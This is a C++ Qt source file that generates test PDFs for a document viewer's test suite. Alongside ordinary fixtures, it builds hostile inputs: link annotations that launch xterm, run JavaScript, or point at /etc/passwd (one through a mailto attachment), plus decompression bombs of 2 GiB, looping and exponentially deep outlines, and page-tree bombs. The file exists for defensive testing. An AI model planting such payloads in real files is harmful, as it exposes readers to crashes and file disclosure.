// SPDX-License-Identifier: GPL-2.0-or-later
#include "testpdfs.h"

#include "pdfobjects.h"
#include "testfiles.h"

#include <QFile>
#include <QFont>
#include <QPageSize>
#include <QPainter>
#include <QPdfWriter>
#include <QProcess>
#include <QTemporaryDir>

bool TestPdfs::hasInk(const QImage &image, double part)
{
    for (int y = 0; y < image.height() * part; ++y) {
        for (int x = 0; x < image.width(); ++x) {
            if (qGray(image.pixel(x, y)) < 100)
                return true;
        }
    }
    return false;
}

bool TestPdfs::write(const QString &path, int pages, const QString &title)
{
    QPdfWriter writer(path);
    writer.setTitle(title);
    writer.setCreator(QString::fromUtf8(Creator));
    writer.setPageSize(QPageSize(QPageSize::A4));
    writer.setResolution(72);
    QPainter painter;
    if (!painter.begin(&writer))
        return false;
    QFont font(QStringLiteral("Liberation Sans"));
    font.setPixelSize(60);
    painter.setFont(font);
    for (int page = 1; page <= pages; ++page) {
        if (page > 1)
            writer.newPage();
        const QRect area = painter.viewport();
        for (int top = 0; top < area.height(); top += 120)
            painter.fillRect(QRect(0, top, area.width(), 30), Qt::black);
        painter.drawText(QRect(40, 60, area.width() - 80, 200), Qt::AlignLeft,
                         QStringLiteral("PAGE %1").arg(page));
    }
    return painter.end();
}

QByteArray TestPdfs::bytes(int pages, const QString &title)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("p.pdf"));
    return write(path, pages, title) ? TestFiles::read(path) : QByteArray();
}

namespace
{

QByteArray utf16Hex(const QString &text)
{
    QByteArray hex = "<FEFF";
    for (const QChar c : text)
        hex += QByteArray::number(c.unicode(), 16).rightJustified(4, '0');
    return hex + ">";
}

QByteArray ucs2Hex(const QString &text)
{
    return utf16Hex(text).replace("<FEFF", "<");
}

QByteArray latinLine(int y, const QByteArray &text)
{
    return "BT /F1 16 Tf 72 " + QByteArray::number(y) + " Td (" + text + ") Tj ET\n";
}

QByteArray reference(int object)
{
    return QByteArray::number(object) + " 0 R";
}

} // namespace

QByteArray TestPdfs::onePage(const QByteArray &text)
{
    PdfObjects pdf; // objects 1 to 5, in order
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>");
    pdf.add("<< /Type /Pages /Kids [5 0 R] /Count 1 >>");
    pdf.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    pdf.addStream("<< >>", "BT /F1 12 Tf 72 700 Td (" + text + ") Tj ET");
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>");
    return pdf.finish(1);
}

QByteArray TestPdfs::described()
{
    PdfObjects pdf; // objects 1 to 6, in order
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>");
    pdf.add("<< /Type /Pages /Kids [5 0 R] /Count 1 >>");
    pdf.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    pdf.addStream("<< >>", "BT /F1 12 Tf 72 700 Td (Described) Tj ET");
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>");
    pdf.add("<< /Title " + utf16Hex(QString::fromUtf8(DescribedTitle)) + " /Creator " +
            utf16Hex(QString::fromUtf8(Creator)) + " /CreationDate (D:20240102030405+08'00') >>");
    return pdf.finish(1, 6);
}

QByteArray TestPdfs::linked()
{
    PdfObjects pdf;
    const int catalog = pdf.reserve();
    const int pages = pdf.reserve();
    const int outline = pdf.reserve();
    const int page[3] = {pdf.reserve(), pdf.reserve(), pdf.reserve()};
    const auto at = [&](int index, int y) {
        return "[" + reference(page[index]) + " /XYZ 0 " + QByteArray::number(y) + " 0]";
    };
    const int latin = pdf.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    const int descriptor = pdf.add(
        "<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880]"
        " /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>");
    const int cidFont = pdf.add("<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light"
                                " /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement"
                                " 2 >> /FontDescriptor " +
                                reference(descriptor) + " /DW 1000 >>");
    const int chinese = pdf.add("<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding"
                                " /UniGB-UCS2-H /DescendantFonts [" +
                                reference(cidFont) + "] >>");
    const QByteArray resources =
        "<< /Font << /F1 " + reference(latin) + " /F2 " + reference(chinese) + " >> >>";

    const QList<std::pair<QByteArray, QByteArray>> links{
        {"Go to page three", "/Dest " + at(2, 396)},
        {"Named chapter", "/A << /S /GoTo /D (chapter2) >>"},
        {"Web page", "/A << /S /URI /URI (https://example.com/page) >>"},
        {"Launch", "/A << /S /Launch /F (/usr/bin/xterm) >>"},
        {"Script", "/A << /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        {"Local file", "/A << /S /URI /URI (file:///etc/passwd) >>"},
        {"Other file", "/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"},
        {"Signed in site", "/A << /S /URI /URI (" + QByteArray(SignedInAddress) + ") >>"},
        {"Mail", "/A << /S /URI /URI (mailto:x@example.com?attach=/etc/passwd&subject=Hi) >>"},
        {"Other file by name", "/A << /S /GoToR /F (other.pdf) /D (part2) >>"}};
    QByteArray contents = "BT /F1 24 Tf 72 720 Td (Contents) Tj ET\n";
    QByteArray annotations;
    for (int i = 0; i < links.size(); ++i) {
        const int y = 660 - 40 * i;
        contents += latinLine(y, links.at(i).first);
        annotations +=
            reference(pdf.add("<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [72 " +
                              QByteArray::number(y - 8) + " 400 " + QByteArray::number(y + 22) +
                              "] " + links.at(i).second + " >>")) +
            " ";
    }
    const QByteArray second = latinLine(700, "Second page alpha beta") + "BT /F2 20 Tf 72 640 Td " +
                              ucs2Hex(QStringLiteral("中文文本")) + " Tj ET\n";
    const QByteArray third = latinLine(700, "Third page gamma") + latinLine(60, "last words");
    const QByteArray streams[3] = {contents, second, third};
    for (int i = 0; i < 3; ++i) {
        pdf.add("<< /Type /Page /Parent " + reference(pages) +
                    " /MediaBox [0 0 612 792] /Resources " + resources + " /Contents " +
                    reference(pdf.addStream("<< >>", streams[i])) +
                    (i == 0 ? " /Annots [" + annotations + "]" : QByteArray()) + " >>",
                page[i]);
    }
    pdf.add("<< /Type /Pages /Kids [" + reference(page[0]) + " " + reference(page[1]) + " " +
                reference(page[2]) + "] /Count 3 >>",
            pages);

    const int chapter = pdf.reserve();
    const int section = pdf.reserve();
    const int part = pdf.reserve();
    pdf.add("<< /Title (Chapter one) /Parent " + reference(outline) + " /Next " + reference(part) +
                " /First " + reference(section) + " /Last " + reference(section) +
                " /Count 1 /Dest " + at(0, 792) + " >>",
            chapter);
    pdf.add("<< /Title (Section) /Parent " + reference(chapter) + " /Dest " + at(1, 396) + " >>",
            section);
    pdf.add("<< /Title " + utf16Hex(QStringLiteral("第二部分")) + " /Parent " + reference(outline) +
                " /Prev " + reference(chapter) + " /Dest " + at(2, 792) + " >>",
            part);
    pdf.add("<< /Type /Outlines /First " + reference(chapter) + " /Last " + reference(part) +
                " /Count 3 >>",
            outline);
    pdf.add("<< /Type /Catalog /Pages " + reference(pages) + " /Outlines " + reference(outline) +
                " /Names << /Dests << /Names [(chapter2) " + at(1, 792) + "] >> >> >>",
            catalog);
    return pdf.finish(catalog);
}

namespace
{

// Two empty US Letter pages, objects 4 and 5, below the catalog (1); object 2 is left for the
// outline, whose entries come from 6 on.
PdfObjects twoPages()
{
    PdfObjects pdf;
    pdf.add("<< /Type /Catalog /Pages 3 0 R /Outlines 2 0 R >>");
    pdf.reserve();
    pdf.add("<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>");
    for (int page = 0; page < 2; ++page)
        pdf.add("<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>");
    return pdf;
}

} // namespace

QByteArray TestPdfs::labelled(const QByteArray &ranges, int pages)
{
    PdfObjects pdf;
    const int catalog = pdf.reserve(), tree = pdf.reserve();
    QByteArray kids;
    for (int i = 0; i < pages; ++i) {
        kids += reference(pdf.add("<< /Type /Page /Parent " + reference(tree) +
                                  " /MediaBox [0 0 612 792] >>")) +
                " ";
    }
    pdf.add("<< /Type /Pages /Kids [" + kids + "] /Count " + QByteArray::number(pages) + " >>",
            tree);
    QByteArray body = "<< /Type /Catalog /Pages " + reference(tree);
    if (!ranges.isEmpty())
        body += " /PageLabels << /Nums [" + ranges + "] >>";
    pdf.add(body + " >>", catalog);
    return pdf.finish(catalog);
}

QByteArray TestPdfs::deepOutline(int levels)
{
    PdfObjects pdf = twoPages(); // level n is object 5 + n
    for (int level = 1; level <= levels; ++level) {
        const QByteArray below = reference(6 + level);
        pdf.add("<< /Title (Level " + QByteArray::number(level) + ") /Parent " +
                reference(level == 1 ? 2 : 4 + level) +
                (level < levels ? " /First " + below + " /Last " + below + " /Count 1" : "") +
                " /Dest [4 0 R /Fit] >>");
    }
    pdf.add("<< /Type /Outlines /First 6 0 R /Last 6 0 R >>", 2);
    return pdf.finish(1);
}

QByteArray TestPdfs::loopingOutline()
{
    PdfObjects pdf = twoPages();
    pdf.add("<< /Title (Start) /Parent 2 0 R /Next 6 0 R /First 7 0 R /Last 7 0 R"
            " /Dest [4 0 R /Fit] >>");
    pdf.add("<< /Title (Inner) /Parent 6 0 R /Next 7 0 R /First 6 0 R /Last 6 0 R"
            " /Dest [5 0 R /Fit] >>");
    pdf.add("<< /Type /Outlines /First 6 0 R /Last 6 0 R >>", 2);
    return pdf.finish(1);
}

QByteArray TestPdfs::wideOutline(int entries)
{
    PdfObjects pdf = twoPages(); // entry i is object 5 + i
    for (int i = 1; i <= entries; ++i)
        pdf.add("<< /Title (Entry " + QByteArray::number(i) + ") /Parent 2 0 R" +
                (i < entries ? " /Next " + reference(6 + i) : QByteArray()) + " >>");
    pdf.add("<< /Type /Outlines /First 6 0 R /Last " + reference(5 + entries) + " >>", 2);
    return pdf.finish(1);
}

QByteArray TestPdfs::openOutlineBomb(int width)
{
    PdfObjects pdf = twoPages(); // entry i of level n is object 6 + n * width + i
    const auto entry = [width](int level, int i) { return reference(6 + level * width + i); };
    for (int level = 0; level < 3; ++level) {
        for (int i = 0; i < width; ++i) {
            QByteArray text = "<< /Title (L" + QByteArray::number(level) + "-" +
                              QByteArray::number(i) + ") /Parent 2 0 R /Dest [4 0 R /Fit]";
            if (i + 1 < width)
                text += " /Next " + entry(level, i + 1);
            if (level < 2)
                text += " /First " + entry(level + 1, 0) + " /Last " + entry(level + 1, width - 1) +
                        " /Count " + QByteArray::number(width);
            pdf.add(text + " >>");
        }
    }
    pdf.add("<< /Type /Outlines /First 6 0 R /Last " + entry(0, width - 1) + " >>", 2);
    return pdf.finish(1);
}

QByteArray TestPdfs::claimingPages(int claimed)
{
    const QByteArray lengthField(10, '0'); // the file's length, once known
    PdfObjects pdf;
    pdf.add("<< /Linearized 1 /L " + lengthField + " /H [0 0] /O 4 /E 0 /N " +
            QByteArray::number(claimed) + " /T 0 >>");
    pdf.add("<< /Type /Catalog /Pages 3 0 R >>");
    pdf.add("<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>");
    for (int page = 0; page < 2; ++page)
        pdf.add("<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>");
    QByteArray file = pdf.finish(2);
    return file.replace(file.indexOf(lengthField), lengthField.size(),
                        QByteArray::number(file.size()).rightJustified(lengthField.size(), '0'));
}

QByteArray TestPdfs::locked(const QByteArray &pdf, const QString &password)
{
    QTemporaryDir dir;
    const QString plain = dir.filePath(QStringLiteral("plain.pdf"));
    const QString locked = dir.filePath(QStringLiteral("locked.pdf"));
    QFile file(locked);
    if (!TestFiles::write(plain, pdf) ||
        QProcess::execute(QStringLiteral("qpdf"),
                          {"--encrypt", password, "owner", "256", "--", plain, locked}) != 0 ||
        !file.open(QIODevice::ReadOnly))
        return QByteArray();
    return file.readAll();
}

namespace
{

// A zlib stream that inflates to `length` zero bytes (less a few), with fixed Huffman codes: a
// literal 0, then matches of 258 bytes at distance 1, 13 bits each. Its checksum is left 0: the
// bytes it gives are the point, not their end.
QByteArray inflatingToZeros(qint64 length)
{
    QByteArray out("\x78\x01");
    quint32 bits = 0;
    int count = 0;
    const auto put = [&](quint32 value, int width) { // least significant bit first
        bits |= value << count;
        for (count += width; count >= 8; count -= 8, bits >>= 8)
            out.append(char(bits & 0xff));
    };
    const auto code = [&](quint32 value, int width) { // Huffman codes go most significant first
        for (int bit = width - 1; bit >= 0; --bit)
            put((value >> bit) & 1, 1);
    };
    put(1, 1);     // the last block
    put(1, 2);     // fixed codes
    code(0x30, 8); // literal 0
    for (qint64 done = 1; done + 258 <= length; done += 258) {
        code(0xc5, 8); // length 258
        code(0, 5);    // distance 1
    }
    code(0, 7); // end of block
    put(0, 7);
    return out + QByteArray(4, '\0');
}

} // namespace

namespace
{

QByteArray deepPageTree(int levels)
{
    PdfObjects pdf;
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>");
    for (int level = 1; level <= levels; ++level)
        pdf.add("<< /Type /Pages /Kids [" + reference(level + 2) + "] /Count 1" +
                (level > 1 ? " /Parent " + reference(level) : QByteArray()) + " >>");
    pdf.add("<< /Type /Page /Parent " + reference(levels + 1) + " /MediaBox [0 0 100 100] >>");
    return pdf.finish(1);
}

QByteArray repeatedPage(int times)
{
    PdfObjects pdf;
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>");
    pdf.add("<< /Type /Pages /Kids [" + QByteArray("3 0 R ").repeated(times) + "] /Count " +
            QByteArray::number(times) + " >>");
    pdf.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>");
    return pdf.finish(1);
}

// Object 3, the page, is the first of object stream 4, which a cross-reference stream gives.
QByteArray objectStreamBomb()
{
    QByteArray file = "%PDF-1.5\n";
    QList<qint64> offsets{0};
    const auto add = [&](const QByteArray &body) {
        offsets << file.size();
        file += QByteArray::number(offsets.size() - 1) + " 0 obj\n" + body + "\nendobj\n";
    };
    add("<< /Type /Catalog /Pages 2 0 R >>");
    add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    offsets << 0; // object 3 is in the stream
    const QByteArray data = qCompress(inflatingToZeros(qint64(2) << 30), 9).mid(4);
    add("<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length " +
        QByteArray::number(data.size()) + " >>\nstream\n" + data + "\nendstream");
    const qint64 table = file.size(); // the cross-reference stream, object 5
    // Rows of a type byte, four bytes of offset or stream number, two of generation or index.
    QByteArray rows;
    const auto row = [&rows](int type, qint64 field, int index) {
        rows += char(type);
        for (int shift = 24; shift >= 0; shift -= 8)
            rows += char((field >> shift) & 0xff);
        rows += char(index >> 8);
        rows += char(index & 0xff);
    };
    row(0, 0, 0xffff);
    for (const int object : {1, 2})
        row(1, offsets.at(object), 0);
    row(2, 4, 0);
    row(1, offsets.at(4), 0);
    row(1, table, 0);
    add("<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length " + QByteArray::number(rows.size()) +
        " >>\nstream\n" + rows + "\nendstream");
    return file + "startxref\n" + QByteArray::number(table) + "\n%%EOF\n";
}

} // namespace

QByteArray TestPdfs::qpdfBomb(QpdfBomb kind)
{
    switch (kind) {
    case QpdfBomb::DeepPageTree:
        return deepPageTree(100000);
    case QpdfBomb::RepeatedPage:
        return repeatedPage(2000000);
    case QpdfBomb::ObjectStream:
        break;
    }
    return objectStreamBomb();
}

QByteArray TestPdfs::hostile(int levels)
{
    PdfObjects pdf;
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>");
    pdf.add("<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>");
    const QByteArray font = "/Font << /F 6 0 R >>";
    const QByteArray page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << ";
    pdf.add(page + font + " >> /Contents 7 0 R >>");
    pdf.add(page + font + " /XObject << /X 9 0 R >> >> /Contents 8 0 R >>");
    pdf.add(page + "/Font << /F " + reference(10 + levels) + " >> >> /Contents " +
            reference(9 + levels) + " >>");
    pdf.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    pdf.addStream("<< >>", "BT /F 12 Tf 20 100 Td (Fine page) Tj ET");
    pdf.addStream("<< >>", "/X Do");
    for (int level = 1; level <= levels; ++level) {
        const QByteArray form = "<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] ";
        if (level < levels)
            pdf.addStream(form + "/Resources << /XObject << /X " + reference(9 + level) +
                              " >> >> >>",
                          QByteArray("/X Do ").repeated(10));
        else
            pdf.addStream(form + "/Resources << " + font + " >> >>",
                          "BT /F 12 Tf 20 100 Td (x) Tj ET");
    }
    pdf.addStream("<< >>", "BT /F 12 Tf 20 100 Td (x) Tj ET");
    pdf.add("<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 120 /LastChar 120"
            " /Widths [500] /FontDescriptor " +
            reference(11 + levels) + " >>");
    pdf.add("<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1000 1000]"
            " /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 " +
            reference(12 + levels) + " >>");
    // Deflated twice: 2 GiB of zeros in a few kilobytes. qCompress puts a length before its
    // zlib stream.
    pdf.addStream("<< /Filter [/FlateDecode /FlateDecode] >>",
                  qCompress(inflatingToZeros(qint64(2) << 30), 9).mid(4));
    return pdf.finish(1);
}
